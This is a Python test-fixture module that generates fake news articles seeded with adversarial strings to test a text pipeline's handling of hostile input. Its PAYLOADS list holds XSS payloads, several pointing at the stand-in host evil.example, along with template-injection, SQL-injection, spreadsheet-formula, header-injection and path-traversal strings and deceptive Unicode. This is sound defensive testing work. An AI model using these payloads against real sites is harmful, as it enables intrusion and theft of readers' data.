"""Text that would be more than text: classes of payloads, each with its reason, and articles full of them."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from datetime import date, timedelta
from pathlib import Path

NAUGHTY = Path(__file__).parent / "naughty_strings" / "blns.json"

PAYLOADS: tuple[tuple[str, str], ...] = (
    ("<script>alert(1)</script>", "a script"),
    ("<ScRiPt >alert(1)</sCrIpT >", "the same, in mixed letters"),
    ("<script src=//evil.example/x.js></script>", "a script from elsewhere"),
    ("<img src=x onerror=alert(1)>", "an event of a picture that is not there"),
    ("<img src=https://evil.example/pixel.gif>", "a picture that tells who reads"),
    ("<svg/onload=alert(1)>", "an event of a drawing"),
    ("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "an event that begins by itself"),
    ("<details open ontoggle=alert(1)>", "an event without a click"),
    ("<body onpageshow=alert(1)>", "an event of the page"),
    ("<iframe srcdoc='<script>alert(1)</script>'></iframe>", "a page within the page"),
    ("<iframe src=javascript:alert(1)></iframe>", "a frame that runs"),
    ("<object data=data:text/html,<script>alert(1)</script>></object>", "an object"),
    ("<embed src=//evil.example>", "an embedded thing"),
    ("<link rel=stylesheet href=//evil.example/x.css>", "a style sheet from elsewhere"),
    ("<style>@import '//evil.example';body{display:none}</style>", "a style"),
    ("<base href=//evil.example/>", "all links turned elsewhere"),
    ("<meta http-equiv=refresh content='0;url=//evil.example'>", "a page that leaves by itself"),
    ("<form action=//evil.example><button>Keep</button></form>", "a form of somebody else's"),
    ("</title><script>alert(1)</script>", "out of a title"),
    ("</textarea><script>alert(1)</script>", "out of a field"),
    ("</script><script>alert(1)</script>", "out of a script"),
    ("--><script>alert(1)</script><!--", "out of a comment"),
    ("]]><script>alert(1)</script>", "out of a section of XML"),
    ('"><script>alert(1)</script>', "out of an attribute in double marks"),
    ("'><script>alert(1)</script>", "out of an attribute in single marks"),
    ('" autofocus onfocus=alert(1) x="', "an event within an attribute"),
    ("' onmouseover=alert(1) x='", "the same in single marks"),
    ("` onmouseover=alert(1) x=`", "the same in an old browser's marks"),
    ("javascript:alert(1)", "an address that runs"),
    ("JaVaScRiPt:alert(1)", "the same in mixed letters"),
    ("java\tscript:alert(1)", "the same with a tab, which browsers take out"),
    ("\x01javascript:alert(1)", "the same behind a control"),
    ("data:text/html,<script>alert(1)</script>", "an address that is a page"),
    ("//evil.example/x", "an address of another site"),
    ("{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "a template's words"),
    ("${alert(1)}#{alert(1)}", "other templates' words"),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", "escaped already: shown as it is"),
    ("&#60;script&#62;alert(1)", "escaped in numbers"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", "for whoever strips tags once"),
    ("<math><mi//xlink:href=javascript:alert(1)>", "another language of tags"),
    ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "read otherwise without scripts"),
    ("<a id=main name=main>", "names that scripts may look up"),
    ("__proto__", "a name that objects have"),
    ("constructor", "another"),
    ("\u202eevil said who yaM\u202c", "letters turned about"),
    ("\u2066\u2067isolated\u2069", "isolates left open"),
    ("Mayor\u202e rofecalP", "a name that runs backwards over what follows"),
    ("\u05d4\u05e9\u05e8 \u05d9\u05e2\u05d3\u05d4", "a name from right to left"),
    ("\u0627\u0644\u0648\u0632\u064a\u0631\u0629 3", "another, with a figure at its end"),
    ("M\u0336a\u0336y\u0336o\u0336r", "struck out"),
    ("Z\u0351\u036b\u0343\u036a\u0302a\u0334\u0335\u031dl\u0360\u035cg\u0315o", "marks heaped on letters"),
    ("Ma\u200byor\u200d\u2060", "marks that nobody sees"),
    ("\U000e0041\U000e0042tag", "tags that nobody sees"),
    ("\ufeffMayor", "a byte order mark"),
    ("\ud800half", "half of a pair"),
    ("\x00\x07\x1b[31mred\x1b[0m", "what steers a terminal"),
    ("line\u2028end\u2029here", "ends of lines in scripts"),
    ("W" * 4000, "a word without an end"),
    ("\U0001f468\u200d\U0001f469\u200d\U0001f467", "a family in one sign"),
    ("'; DROP TABLE article; --", "a statement"),
    ('=HYPERLINK("http://evil.example")', "a formula"),
    ("%0d%0aset-cookie:x=1", "a header, written as in an address"),
    ("../../etc/passwd", "a way out of a folder"),
    ("article-00000000000000000000000000000000", "what looks like an id"),
    ("", "nothing"),
    (" ", "a blank"),
)


def naughty() -> list[str]:
    """The big list."""
    strings: list[str] = json.loads(NAUGHTY.read_text("utf-8"))
    return [each for each in strings if each.strip()]


TOGETHER = 3
"""Strings of a title, and of an outlet, a name and what is said in an article."""

THINGS = "ferry bridge dam mill school market quarry harbour tunnel library orchard brewery hospital lighthouse".split()
DONE = "sunk closed mended sold flooded painted robbed searched fenced moved emptied counted".split()


def articles(strings: Sequence[str], first: date) -> Iterator[str]:
    """Articles, a line of JSON each, in which each of some strings is in a title, in a name and in what is said.

    Two tell of one thing; the next tells of another, months later, since words that are all alike would all be linked.
    """
    for number, start in enumerate(range(0, len(strings), TOGETHER)):
        some = [strings[(start + step) % len(strings)] for step in range(2 * TOGETHER)]
        thing, done = THINGS[number // 2 % len(THINGS)], DONE[number // 2 % len(DONE)]
        title = " · ".join(some[:TOGETHER])
        lines = [title, f"Halmora, May 3. The {thing} was {done} by {12 + number} men, said Mayor {some[0]}."]
        lines += [f"“The {thing} {said}”, said Pell Tarn, who told {some[1]}." for said in some[:TOGETHER]]
        lines += [f"According to {name}, the {thing} will be {done} again by June." for name in some[1:TOGETHER]]
        lines += [f"A spokesman for {some[4]} likely feared for the {thing}. [{some[5]}]"]
        day = first + timedelta(days=number // 2 * 120 + number % 2)
        told = {"title": title, "outlet": some[1] or None, "date": day.isoformat()}
        yield json.dumps({"id": f"{number} {title[:60]}", "text": "\n\n".join(lines), **told})
